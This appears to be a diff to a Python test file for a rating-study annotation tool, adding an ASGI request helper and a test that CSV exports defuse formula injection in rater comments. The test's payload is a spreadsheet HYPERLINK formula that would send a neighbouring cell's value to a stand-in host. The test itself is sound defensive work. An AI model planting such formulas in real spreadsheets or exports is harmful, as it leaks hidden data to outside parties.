@@ -3,13 +3,14 @@ rater (check pass rates, time per item), and the statistics computed from a stud
 
 from __future__ import annotations
 
+import asyncio
 import json
 
 import polars as pl
 import pytest
 
 from lalm_judge.analysis.anchors import RATING_COLUMNS, validate_ratings
-from lalm_judge.annotation.app import open_study
+from lalm_judge.annotation.app import create_app, open_study
 from lalm_judge.annotation.batch import RATINGS_DB, Batch, BatchError, load_labels
 from lalm_judge.annotation.export import export_ratings, load_batch_ratings, rater_summary
 from lalm_judge.annotation.store import Answer, RatingStore
@@ -137,3 +138,56 @@ def test_statistics_from_the_live_database_as_the_study_runs(tmp_path, capsys):
         full = stats()
         assert full["alpha_safety"]["n"] == 16 and full["alpha_safety"]["bootstrap_unsupported"] == 0
         assert full["safety_kappa"]["per_rater"]["b"]["n"] == 16
+
+
+def asgi_get(app, path: str) -> tuple[int, bytes]:
+    """One GET request through the app's ASGI interface (its middleware, authentication and route), no socket."""
+    sent: list[dict] = []
+
+    async def receive() -> dict:
+        return {"type": "http.request", "body": b"", "more_body": False}
+
+    async def send(message: dict) -> None:
+        sent.append(message)
+
+    scope = {
+        "type": "http",
+        "method": "GET",
+        "path": path,
+        "raw_path": path.encode(),
+        "query_string": b"",
+        "headers": [],
+        "scheme": "http",
+        "server": ("127.0.0.1", 80),
+        "client": ("127.0.0.1", 1),
+        "root_path": "",
+        "http_version": "1.1",
+    }
+    asyncio.run(app(scope, receive, send))
+    status = next(m["status"] for m in sent if m["type"] == "http.response.start")
+    return status, b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")
+
+
+FORMULA = '=HYPERLINK("http://x.example/?"&B2,"more")'
+
+
+def test_a_formula_in_a_raters_comment_is_written_as_text_in_both_exports(batch, tmp_path):
+    """A rater (perhaps an outside crowd worker) writes a formula as their comment: `anchors export` and the owner's
+    `export.csv` of the running app write it with a `'` in front, so the spreadsheet beside the hidden labels shows
+    it and never runs it."""
+    study = open_study(batch)
+    study.register(["-crowd"])
+    labels = load_labels(batch)[1]
+    for label in labels[:2]:
+        answer = label_answer(label)
+        study.store.submit(
+            "-crowd", label.item_id, Answer(answer.unsafe, answer.category, answer.severity, comment=FORMULA)
+        )
+    out = tmp_path / "ratings.csv"
+    assert anchors_cli.main(["export", str(batch), "--out", str(out)]) == 0
+    from_cli = pl.read_csv(out, schema_overrides={"rater_id": pl.String})
+    assert from_cli["comment"].to_list() == ["'" + FORMULA] * 2 and from_cli["rater_id"].to_list() == ["'-crowd"] * 2
+    assert pl.read_csv(tmp_path / "ratings.raters.csv")["rater_id"].to_list() == ["'-crowd"]
+    status, download = asgi_get(create_app(study), f"/owner/{study.store.owner_token()}/export.csv")
+    assert status == 200 and download == out.read_bytes(), "the app's download is the command's table"
+    assert b"'=HYPERLINK(" in download
